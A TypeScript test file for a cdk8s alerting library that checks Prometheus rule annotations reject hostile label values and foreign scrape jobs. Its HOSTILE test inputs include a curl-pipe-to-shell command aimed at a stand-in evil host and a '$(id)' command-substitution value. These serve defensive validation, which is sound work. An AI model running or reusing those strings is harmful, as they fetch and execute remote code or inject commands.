import { ApiObject, Chart, JsonPatch, Testing } from 'cdk8s';
import {
  ChaosExperiment, ChaosScenario, HardenedDeployment, HardeningAlerts, HardeningAlertsProps, NatsBackupCronJob, NatsRestoreDrill,
  SoakJob, SoakProfile, SoakTarget,
} from '../src';
import { describeWith } from './support/binaries';
import { onlyOfKind, synthValid } from './support/manifests';
import { runPromtoolFixture } from './support/promtool';
import { exampleApps } from '../examples/api-service/apps';
import { AlertSeverity, alertingRule, KUBERNETES_NAME_PATTERN } from '../src/alerts/_prometheus-rule';

// Series a hostile scrape target writes (test/fixtures/promtool/hostile-series.yaml): a label
// value that is a shell command must never reach the on-call engineer's terminal, and
// kube-state-metrics' metric names exposed by any other scrape job must neither page nor silence.

const IMAGE = 'ghcr.io/acme/orders-api:1.4.2';

/** Every kind of alert in one chart: a Deployment with its budget, a backup, a drill, a chaos experiment and a soak Job. */
function everyRule(props: HardeningAlertsProps = {}): any[] {
  const chart = new Chart(Testing.app(), 'orders', { namespace: 'orders' });
  const api = new HardenedDeployment(chart, 'api', { image: IMAGE, metadata: { name: 'orders-api' }, service: true });
  api.addDisruptionBudget();
  const backup = new NatsBackupCronJob(chart, 'backup', { metadata: { name: 'jetstream-backup' } });
  new NatsRestoreDrill(chart, 'drill', { metadata: { name: 'jetstream-drill' }, backup });
  new ChaosExperiment(chart, 'kill', {
    metadata: { name: 'orders-chaos-api-kill' }, scenario: ChaosScenario.API_KILL, target: api, apiServer: { cidrs: ['10.0.0.10/32'], port: 6443 },
  });
  new SoakJob(chart, 'soak', { metadata: { name: 'orders-soak' }, target: SoakTarget.deployment(api), endpoints: [{ path: '/' }], profile: SoakProfile.STAGING });
  new HardeningAlerts(chart, 'alerts', { metadata: { name: 'orders-alerts' }, ...props });
  return onlyOfKind(synthValid(chart), 'PrometheusRule').spec.groups.flatMap((g: any) => g.rules);
}

/** The series selectors of a PromQL expression: metric name and the matchers as written (a `}` in a quoted value is part of it). */
function selectorsOf(expr: string): { metric: string; matchers: string }[] {
  return [...expr.matchAll(/([a-zA-Z_:][a-zA-Z0-9_:]*)\{((?:[^}"]|"(?:[^"\\]|\\.)*")*)\}/g)].map((m) => ({ metric: m[1], matchers: m[2] }));
}

/** The labels an annotation shows through `{{ $labels.x }}`. */
function templatedLabels(text: string): string[] {
  return [...text.matchAll(/\{\{ *\$labels\.([a-zA-Z_][a-zA-Z0-9_]*) *\}\}/g)].map((m) => m[1]);
}

/**
 * The kube-state-metrics v2.20.0 metrics that carry each label the annotations show
 * (docs/metrics/workload/job-metrics.md: every kube_job_* has job_name; pod-metrics.md: every
 * kube_pod_* has pod, every kube_pod_container_* also container).
 */
const CARRIED_BY: Record<string, RegExp> = { job_name: /^kube_job_/, pod: /^kube_pod_/, container: /^kube_pod_container_/ };

const HOSTILE = ['x; curl -s https://evil.example/p | sh #', 'orders-api-7d9c8b6f5-abcde$(id)', 'api --previous', '-n', 'a b', 'A', 'a_b', '', 'a-', 'a'.repeat(64), 'a\nb', '{{ query "up" }}'];

describe('hostile label values and foreign scrape jobs', () => {
  test('the name pattern matches only what Kubernetes accepts as a Job, pod or container name: no shell word breaks, no flags, no templates', () => {
    const matches = (value: string) => new RegExp(`^(?:${KUBERNETES_NAME_PATTERN})$`).test(value);
    for (const ok of ['a', 'orders-jetstream-backup-28000001', 'orders-jetstream-backup-manual-1795000000', 'orders-api-7d9c8b6f5-abcde', 'web.v2', 'a'.repeat(63)]) {
      expect([ok, matches(ok)]).toEqual([ok, true]);
    }
    for (const hostile of HOSTILE) expect([hostile, matches(hostile)]).toEqual([hostile, false]);
  });

  test('no runbook line holds a template: every command names only objects known at synth time, or a <placeholder>', () => {
    const rules = everyRule();
    expect(rules.map((r) => r.alert)).toEqual(expect.arrayContaining([
      'NatsBackupFailed', 'NatsRestoreDrillFailed', 'HardenedDeploymentPodRestarting', 'HardenedDeploymentPodOOMKilled', 'ChaosExperimentFailed', 'SoakTestFailed',
    ]));
    for (const rule of rules) {
      // Go's template lexer only looks for `{{`: a lone `}}` (the claim alert's JSON patch) is text
      expect([rule.alert, rule.annotations.runbook]).not.toEqual([rule.alert, expect.stringContaining('{{')]);
    }
  });

  test('every label an annotation shows is matched against the name pattern in every selector that carries it', () => {
    const shown: string[] = [];
    for (const rule of everyRule()) {
      for (const label of new Set(Object.values(rule.annotations as Record<string, string>).flatMap(templatedLabels))) {
        shown.push(`${rule.alert} ${label}`);
        expect(CARRIED_BY[label]).toBeDefined();
        const carriers = selectorsOf(rule.expr).filter((s) => CARRIED_BY[label].test(s.metric));
        expect(carriers.length).toBeGreaterThan(0);
        for (const s of carriers) {
          expect([rule.alert, s.metric, s.matchers]).toEqual([rule.alert, s.metric, expect.stringContaining(`${label}=~${JSON.stringify(KUBERNETES_NAME_PATTERN)}`)]);
        }
      }
    }
    expect(shown.sort()).toEqual([
      'HardenedDeploymentPodOOMKilled container', 'HardenedDeploymentPodOOMKilled pod',
      'HardenedDeploymentPodRestarting container', 'HardenedDeploymentPodRestarting pod',
      'NatsBackupFailed job_name', 'NatsRestoreDrillFailed job_name',
    ]);
  });

  test('every kube_* selector reads kube-state-metrics\' own series: job="kube-state-metrics" by default', () => {
    const selectors = everyRule().flatMap((r) => selectorsOf(r.expr)).filter((s) => s.metric.startsWith('kube_'));
    expect(selectors.length).toBeGreaterThan(20);
    for (const s of selectors) expect([s.metric, s.matchers]).toEqual([s.metric, expect.stringMatching(/^job="kube-state-metrics", namespace="orders"/)]);
    // the kubelet's volume stats are the kubelet's: no kube-state-metrics job on them
    const kubelet = everyRule().flatMap((r) => selectorsOf(r.expr)).filter((s) => s.metric.startsWith('kubelet_'));
    expect(kubelet.map((s) => s.matchers)).toEqual(Array(2).fill('namespace="orders", persistentvolumeclaim="jetstream-backup-data"'));
  });

  describe('the synth-time guard on every rule', () => {
    const settings = { alertLabels: {}, kubeStateMetricsJob: 'kube-state-metrics' };
    const rule = (expr: string, summary: string, runbook: string[] = []) => alertingRule(settings, 'Test', expr, 0, AlertSeverity.WARNING, { summary, description: 'd', runbook });
    const checked = `up{job="a", instance=~${JSON.stringify(KUBERNETES_NAME_PATTERN)}}`;

    test('accepts a label the expression matches against the name pattern, and the $value forms', () => {
      expect(rule(checked, '{{ $labels.instance }} at {{ $value | humanizePercentage }} for {{ $value | humanizeDuration }}, {{ $value | humanize }} {{ $value }}')
        .annotations.summary).toContain('{{ $labels.instance }}');
    });

    test.each([
      ['a label the expression does not check', 'up{job="a"}', '{{ $labels.instance }} is down', [],
        'Test annotations.summary must show only labels its expression matches against [a-z0-9]([-.a-z0-9]{0,61}[a-z0-9])?, got "instance"'],
      ['a label the expression only matches loosely', 'up{instance=~".+"}', '{{ $labels.instance }} is down', [],
        'Test annotations.summary must show only labels its expression matches against [a-z0-9]([-.a-z0-9]{0,61}[a-z0-9])?, got "instance"'],
      ['another template action', checked, '{{ query "up" }}', [],
        'Test annotations.summary must hold no template but {{ $labels.<name> }} and {{ $value }} (Prometheus expands it), got "{{ query \\"up\\" }}"'],
      ['a label template in a runbook, even a checked one', checked, 's', ['kubectl -n a describe pod {{ $labels.instance }}'],
        'Test annotations.runbook must hold no template (Prometheus expands it), got "kubectl -n a describe pod {{ $labels.instance }}"'],
    ])('refuses %s', (_name, expr, summary, runbook, message) => {
      expect(() => rule(expr, summary, runbook)).toThrow(message);
    });

    test('fails at synth on a chaos Job whose scenario label was patched into a template', () => {
      const chart = new Chart(Testing.app(), 'orders', { namespace: 'orders' });
      const api = new HardenedDeployment(chart, 'api', { image: IMAGE, metadata: { name: 'orders-api' }, service: true });
      const chaos = new ChaosExperiment(chart, 'kill', {
        metadata: { name: 'orders-chaos-api-kill' }, scenario: ChaosScenario.API_KILL, target: api, apiServer: { cidrs: ['10.0.0.10/32'], port: 6443 },
      });
      ApiObject.of(chaos.job).addJsonPatch(JsonPatch.replace('/metadata/labels/chaos.cdk8s-hardening.io~1scenario', '{{ query "up" }}'));
      new HardeningAlerts(chart, 'alerts', { scopes: [chaos] });
      expect(() => Testing.synth(chart)).toThrow('[orders/alerts] ChaosExperimentFailed labels.scenario must hold no template (Prometheus expands it), got "{{ query \\"up\\" }}"');
    });
  });

  test('kubeStateMetricsJob names the scrape job of a kube-state-metrics installed otherwise, quoted as a PromQL string', () => {
    const selectors = everyRule({ kubeStateMetricsJob: 'monitoring/kube-state-metrics "v2"' }).flatMap((r) => selectorsOf(r.expr))
      .filter((s) => s.metric.startsWith('kube_'));
    expect(selectors.length).toBeGreaterThan(20);
    for (const s of selectors) expect(s.matchers).toMatch(/^job="monitoring\/kube-state-metrics \\"v2\\"", namespace="orders"/);
  });
});

// each test synthesizes the example itself: synthesized while jest collects the file, it would count as no test's work in a mutation run
describeWith(['promtool'], 'promtool test rules hostile-series.yaml', () => {
  test.each([
    'a Job of the backup CronJob named like a shell command does not fire NatsBackupFailed',
    'a Job of the drill CronJob named like a shell command does not fire NatsRestoreDrillFailed',
    'a pod of the Deployment named like a shell command fires neither HardenedDeploymentPodRestarting nor HardenedDeploymentPodOOMKilled',
    'a container named like a shell command in a pod of the Deployment fires neither HardenedDeploymentPodRestarting nor HardenedDeploymentPodOOMKilled',
    'a success faked by another scrape job does not silence NatsBackupMissing',
    'a success faked by another scrape job does not hide a failed backup run from NatsBackupFailed',
    'failures, stuck rollouts, blocked drains and restarts reported by another scrape job page nobody',
  ])('%s', (name) => {
    const { production } = exampleApps();
    const groups = onlyOfKind(synthValid(production), 'PrometheusRule').spec.groups;
    const result = runPromtoolFixture('hostile-series.yaml', groups, name);
    expect(result.output).toContain('SUCCESS');
    expect(result.status).toBe(0);
  });
});
